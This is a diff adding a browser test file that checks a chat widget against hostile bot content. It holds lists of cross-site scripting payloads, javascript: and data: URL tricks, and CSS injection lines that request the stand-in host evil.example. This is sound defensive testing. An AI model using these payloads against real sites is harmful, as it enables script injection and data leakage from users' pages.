@@ -1,0 +1,230 @@
+// Bots that mean harm, in a real browser, under a policy that would let a script run: nothing of a bot runs, and nothing leaves.
+import type { Browser } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
+import { openPage, startBrowser } from '../support/browser.ts';
+import { botOf, textBlock } from '../support/small-bot.ts';
+import type { StartedServer } from '../support/started-server.ts';
+import { startServer } from '../support/started-server.ts';
+import type { WidgetPage } from '../support/widget-page.ts';
+import { serveWidgetPage } from '../support/widget-page.ts';
+
+let browser: Browser;
+beforeAll(async () => {
+  browser = await startBrowser();
+}, 120_000);
+afterAll(() => browser?.close());
+
+let server: StartedServer | undefined;
+let site: WidgetPage | undefined;
+afterEach(async () => {
+  for (const context of browser.contexts()) await context.close();
+  await site?.close();
+  await server?.close();
+});
+
+/** A page that allows all that it can: what does not run here runs nowhere. */
+const OPEN_POLICY = "default-src * data: blob: 'unsafe-inline' 'unsafe-eval'";
+
+/** Each sets `window.hacked` or asks another server, if anything of it is taken for more than words. */
+const WORDS = [
+  '<script>hacked = 1</script>',
+  '<img src=x onerror="hacked = 1">',
+  '<svg onload="hacked = 1">',
+  '<svg><script>hacked = 1</script></svg>',
+  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="hacked = 1">',
+  '<details open ontoggle="hacked = 1">x</details>',
+  '<body onload="hacked = 1">',
+  '<a href="javascript:hacked = 1">x</a>',
+  '<input autofocus onfocus="hacked = 1">',
+  '<template><img src=x onerror="hacked = 1"></template>',
+  '"><img src=x onerror="hacked = 1">',
+  "'-hacked=1-'",
+  '${hacked = 1}',
+  '{{constructor.constructor("hacked = 1")()}}',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<form action="https://evil.example"><button>x</button></form>',
+  '<object data="https://evil.example/x"></object>',
+  '<embed src="https://evil.example/x">',
+  '<noscript><p title="</noscript><img src=x onerror=hacked=1>">',
+  '<!--<img src="--><img src=x onerror=hacked=1>">',
+  '\u202e<script>hacked = 1</script>',
+  '[x](javascript:hacked=1)',
+  '[x](data:text/html,<script>opener.hacked=1</script>)',
+  '![x](javascript:hacked=1)',
+  '<video><source onerror="hacked = 1">',
+  '<p style="background:url(https://evil.example/x)">x</p>',
+];
+
+const ADDRESSES = [
+  'javascript:hacked=1',
+  'JaVaScRiPt:hacked=1',
+  ' javascript:hacked=1',
+  'java\nscript:hacked=1',
+  'java\tscript:hacked=1',
+  '\u0001javascript:hacked=1',
+  'data:text/html,<script>parent.hacked=1</script>',
+  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=',
+  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.hacked=1"><script>parent.hacked=1</script></svg>',
+  'vbscript:hacked=1',
+  'blob:hacked',
+  'filesystem:hacked',
+  'view-source:javascript:hacked=1',
+];
+
+const STYLES = [
+  '@import "https://evil.example/a.css";',
+  '@font-face { font-family: x; src: url(https://evil.example/f) } .bubble { font-family: x }',
+  '.bubble { background: url(https://evil.example/b) }',
+  '.bubble { background: u\\72l(https://evil.example/c) }',
+  '.bubble { background-image: image-set("https://evil.example/d" 1x) }',
+  '.bubble { --x: url(https://evil.example/e); background: var(--x) }',
+  '.bubble { list-style: url(https://evil.example/f); display: list-item }',
+  '.bubble { cursor: url(https://evil.example/g), auto }',
+  '.bubble::before { content: url(https://evil.example/h) }',
+  'textarea[value^="a"] { background: url(https://evil.example/i) }',
+  '@media all { .bubble { background: url(https://evil.example/j) } }',
+  '@keyframes x { from { background: url(https://evil.example/k) } } .bubble { animation: x 1s }',
+  '.bubble { mask: url(https://evil.example/l#m) }',
+  '.bubble { & .x, & { background: url(https://evil.example/m) } }',
+  '@supports (display: grid) { .bubble { border-image: url(https://evil.example/n) 1 } }',
+  '@layer a { .bubble { filter: url(https://evil.example/o#x) } }',
+];
+
+const COLORS = [
+  'red; background: url(https://evil.example/q)',
+  'url(https://evil.example/r)',
+  '}</style><script>hacked=1</script>',
+  'var(--x, url(https://evil.example/s))',
+  'expression(hacked=1)',
+];
+
+async function open(bot: object, mode = '') {
+  server = await startServer({ bots: [bot] });
+  site = await serveWidgetPage({
+    api: await server.listen(),
+    body: `<main id="page">The page</main><colloquy-chat bot="hostile"${mode}></colloquy-chat>`,
+    policy: OPEN_POLICY,
+  });
+  const watched = await openPage(browser, { base: site.base });
+  await watched.page.goto(site.base);
+  await watched.page.getByText('That was all').waitFor({ timeout: 20_000 });
+  await watched.page.waitForTimeout(300);
+  return watched;
+}
+
+const quick = { typingEmulation: { enabled: false } };
+
+async function expectNothing({ page, strangers }: Awaited<ReturnType<typeof open>>, allowed = /^$/) {
+  expect(await page.evaluate('window.hacked')).toBeUndefined();
+  expect(page.url()).toBe(`${site?.base}/`);
+  expect(page.context().pages()).toHaveLength(1);
+  expect(strangers.filter((url) => !allowed.test(url))).toEqual([]);
+}
+
+it('takes words for words, in texts, labels and names', async () => {
+  const blocks = WORDS.map((words, index) => textBlock(`w${index}`, words));
+  const watched = await open(
+    botOf({
+      publicId: 'hostile',
+      settings: { ...quick, metadata: { title: WORDS[1] } },
+      blocks: [...blocks, textBlock('end', 'That was all')],
+      choices: WORDS,
+    }),
+  );
+  await expectNothing(watched);
+  // All of it can be read, as it was written.
+  for (const words of WORDS.slice(0, 5))
+    await watched.page.getByText(words, { exact: true }).first().waitFor();
+  await watched.page
+    .getByRole('button', { name: WORDS[0] ?? '', exact: true })
+    .first()
+    .click();
+  await expectNothing(watched);
+}, 60_000);
+
+it('follows no address that is more than a page', async () => {
+  const links = ADDRESSES.map((url, index) => ({
+    id: `a${index}`,
+    type: 'text',
+    content: {
+      richText: [{ type: 'p', children: [{ type: 'a', url, children: [{ text: `link ${index}` }] }] }],
+    },
+  }));
+  const media = ADDRESSES.flatMap((url, index) => [
+    { id: `i${index}`, type: 'image', content: { url, clickLink: { url, alt: 'x' } } },
+    { id: `e${index}`, type: 'embed', content: { url } },
+    { id: `v${index}`, type: 'video', content: { url, type: 'url' } },
+    { id: `s${index}`, type: 'audio', content: { url } },
+  ]);
+  const watched = await open(
+    botOf({
+      publicId: 'hostile',
+      settings: quick,
+      blocks: [...links, ...media, textBlock('end', 'That was all')],
+    }),
+  );
+  const { page } = watched;
+  for (const [index] of ADDRESSES.entries()) await page.getByText(`link ${index}`, { exact: true }).click();
+  expect(await page.locator('iframe').count()).toBe(0);
+  await expectNothing(watched);
+}, 60_000);
+
+it.each(STYLES)(
+  'calls nobody by a style: %s',
+  async (customCss) => {
+    const theme = { customCss };
+    await expectNothing(
+      await open(
+        botOf({ publicId: 'hostile', settings: quick, theme, blocks: [textBlock('end', 'That was all')] }),
+      ),
+    );
+  },
+  60_000,
+);
+
+it.each(COLORS)(
+  'takes for a colour what is one alone: %s',
+  async (backgroundColor) => {
+    const box = { backgroundColor, color: backgroundColor, border: { thickness: 1, color: backgroundColor } };
+    const theme = {
+      general: {
+        background: { type: 'Image', content: `x"); } * { background: url(https://evil.example/z` },
+        font: `x"; } * { color: red } a{`,
+      },
+      chat: {
+        hostBubbles: box,
+        guestBubbles: box,
+        buttons: box,
+        inputs: box,
+        container: { maxWidth: backgroundColor },
+      },
+    };
+    await expectNothing(
+      await open(
+        botOf({ publicId: 'hostile', settings: quick, theme, blocks: [textBlock('end', 'That was all')] }),
+      ),
+      /^$/,
+    );
+  },
+  60_000,
+);
+
+it('stays in its place, whatever its style says', async () => {
+  const customCss =
+    ':host { position: fixed; inset: 0; z-index: 99999 } .root, .bubble { position: fixed; inset: 0; width: 100vw; height: 100vh; z-index: 99999 }';
+  const { page } = await open(
+    botOf({
+      publicId: 'hostile',
+      settings: quick,
+      theme: { customCss },
+      blocks: [textBlock('end', 'That was all')],
+    }),
+    ' class="short"',
+  );
+  const above = await page.evaluate('document.elementFromPoint(10, 5).id');
+  expect(above).toBe('page');
+}, 60_000);
